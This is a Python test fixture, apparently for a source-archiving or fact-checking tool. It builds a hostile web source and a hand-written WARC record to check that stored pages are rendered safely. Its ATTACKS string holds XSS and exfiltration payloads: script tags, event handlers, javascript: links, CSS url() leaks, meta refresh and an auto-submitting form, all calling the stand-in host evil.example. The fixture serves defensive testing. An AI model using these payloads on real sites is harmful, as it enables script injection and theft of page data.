"""A source that tries everything, archived and read as any other."""

import base64
import gzip
import hashlib
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from storage.evidence import Evidence, Visited
from storage.outcomes import Outcome
from storage.records import (
    Asked,
    Capture,
    Claim,
    Document,
    Issue,
    IssueFormat,
    Item,
    Link,
    LinkRole,
    Resolution,
    Via,
    Visit,
)

if TYPE_CHECKING:
    from tests.desk.conftest import House

ADDRESS = "https://hostile.example.com/"
NOW = datetime(2026, 11, 9, 8, tzinfo=UTC)
ATTACKS = """<script>window.harmed=top.harmed=1;fetch('https://evil.example/a')</script>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/b">
<img src="https://evil.example/c.png" onerror="top.harmed=1"><a href="javascript:top.harmed=1" autofocus onfocus="top.harmed=1">go</a>
<svg onload="top.harmed=1"><image href="https://evil.example/d.png"/><script>top.harmed=1</script></svg>
<style>@import "https://evil.example/e.css"; @font-face{font-family:x;src:url(https://evil.example/f)} body{font-family:x}
input[value^="a"]{background:url(https://evil.example/g)}</style><input value="abc" style="background:url(https://evil.example/h)">
<link rel="stylesheet" href="https://evil.example/i.css"><link rel="prefetch" href="https://evil.example/j">
<iframe src="https://evil.example/k"></iframe><object data="https://evil.example/l"></object><video src="https://evil.example/m" autoplay></video>
<form action="https://evil.example/n" id="f"><input name="q"></form><script>document.forms.f.submit()</script>
<details open ontoggle="top.harmed=1"><summary>x</summary></details>"""
HOSTILE = f"<!doctype html><html><body><p>These are harmless words.</p>{ATTACKS}<p>{'long ' * 1000}</p></body></html>".encode()
LINE = (
    "A harmless beginning. " + ATTACKS.replace("\n", " ") + " the 44 percent stand here. " + "x" * 5_000_000
)


def add_hostile(house: "House") -> tuple[str, str]:
    """Keep the hostile source; the addresses of its claim and of its archived page."""
    text = (
        "The 44 percent stand here, <script>top.harmed=1</script> says [the source](javascript:top.harmed=1)."
    )
    claim = Claim(id="hostile/1/c1", text=text, start=0, end=len(text), language="en")
    link = Link(
        id="hostile/1/l1",
        anchor="<b onclick=top.harmed=1>x",
        address=ADDRESS,
        role=LinkRole.SOURCE,
        start=0,
        end=3,
    )
    item = Item(id="hostile/1", position=1, section=ATTACKS, headline=ATTACKS, text=text, start=0, end=len(text),
                language="en", claims=(claim,), links=(link,))  # fmt: skip
    issue = Issue(id="hostile", title=ATTACKS, publication=ATTACKS, published=None, language="en", format=IssueFormat.TEXT,
                  address=None, text=text, items=(item,))  # fmt: skip
    resolution = Resolution(raw=ADDRESS, canonical=ADDRESS, kind="web", identity="web:hostile.example.com/")
    house.store.add_issue(issue, {link.id: resolution}, now=NOW)
    capture = _archived(house)
    run = house.store.begin_run(issue.id, now=NOW)
    asked = Asked(asked=ADDRESS, final=ADDRESS, status=200, outcome=None, detail=ATTACKS, via=Via.LIVE, hops=(),
                  captures=(capture,), fetched=NOW)  # fmt: skip
    visit = Visit(source=resolution.identity, run=run, asked=ADDRESS, final=ADDRESS, hops=(), status=200, outcome=Outcome.OK,
                  detail=ATTACKS, traceback=None, started=NOW, seconds=0.1, size=len(HOSTILE), via=Via.LIVE,
                  reader="article", asked_pages=(asked,))  # fmt: skip
    document = Document(
        address=ADDRESS,
        kind="article",
        title=ATTACKS,
        authors=(ATTACKS,),
        published=ATTACKS,
        text=LINE,
        language="en",
    )
    start = LINE.index("the 44 percent")
    evidence = (
        Evidence(
            claim=claim.id, start=0, end=900, text=LINE[:900], score=2.0, rank=1, signals={"words": 1.0}
        ),
        Evidence(
            claim=claim.id, start=start, end=start + 26, text=LINE[start : start + 26], score=1.0, rank=2
        ),
    )
    house.store.keep(
        Visited(resolution=resolution, visit=visit, document=document, links=(link.id,), evidence=evidence)
    )
    house.store.finish_run(run, now=NOW)
    return claim.id, f"/source/archived?id=web:hostile.example.com/&at={capture.file}:{capture.offset}"


def _archived(house: "House") -> Capture:
    """One WARC response record, written by hand."""
    digest = "sha1:" + base64.b32encode(hashlib.sha1(HOSTILE, usedforsecurity=False).digest()).decode()
    http = b"HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\n\r\n" + HOSTILE
    head = (
        "WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000001>\r\n"
        f"WARC-Date: 2026-11-09T08:00:00Z\r\nWARC-Target-URI: {ADDRESS}\r\nWARC-Payload-Digest: {digest}\r\n"
        f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n"
    )
    packed = gzip.compress(head.encode() + http + b"\r\n\r\n")
    house.config.archive.mkdir(parents=True, exist_ok=True)
    (house.config.archive / "hostile.warc.gz").write_bytes(packed)
    return Capture(
        file="hostile.warc.gz",
        offset=0,
        length=len(packed),
        address=ADDRESS,
        status=200,
        payload_digest=digest,
        captured=NOW,
    )
